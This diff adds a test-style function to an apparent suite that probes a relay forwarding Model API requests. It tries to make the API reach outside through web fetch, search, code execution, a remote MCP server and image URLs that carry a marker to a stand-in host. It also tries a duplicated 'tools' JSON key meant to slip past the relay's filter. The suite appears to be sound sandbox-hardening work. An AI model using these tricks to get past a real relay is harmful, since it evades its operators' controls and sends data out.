@@ -662,6 +662,35 @@ def ask_the_relay_for_another_model() -> object:
 
 
 @attempt
+def have_the_models_api_reach_out() -> object:
+    """It would fetch, search, run programs and connect to servers, if it were asked to."""
+    elsewhere = "https://example.invalid/?said=" + TARGETS["marker"]
+    picture = {"type": "image", "source": {"type": "url", "url": elsewhere}}
+    result = {"type": "tool_result", "tool_use_id": "toolu_1", "content": [picture]}
+    file = {"type": "document", "source": {"type": "file", "file_id": "file_1"}}
+    asked = (
+        {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
+        {"tools": [{"type": "web_search_20250305", "name": "web_search"}]},
+        {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
+        {"mcp_servers": [{"type": "url", "url": elsewhere, "name": "elsewhere"}]},
+        {"container": "container_1"},
+        {"messages": [{"role": "user", "content": [picture]}]},
+        {"messages": [{"role": "user", "content": [result]}]},
+        {"messages": [{"role": "user", "content": [file]}]},
+    )
+    bodies = [json.dumps({**TARGETS["body"], **field}).encode() for field in asked]
+    # The API may take the first of two fields of one name, where others take the last: that is looked at from outside.
+    said_twice = b'{"tools": [{"type": "web_fetch_20250910"}], "tools": [], ' + json.dumps(TARGETS["body"]).encode()[1:]
+    _relayed(b"POST", b"/v1/messages", body=said_twice)
+    return [
+        body[-80:]
+        for path in (b"/v1/messages", b"/v1/messages/count_tokens")
+        for body in bodies
+        if b" 403 " not in _relayed(b"POST", path, body=body).partition(b"\r\n")[0]
+    ]
+
+
+@attempt
 def hear_the_key_from_the_relay() -> object:
     # The one request that is served: its answer, and what it was asked with, are looked at from outside as well.
     answer = _relayed(
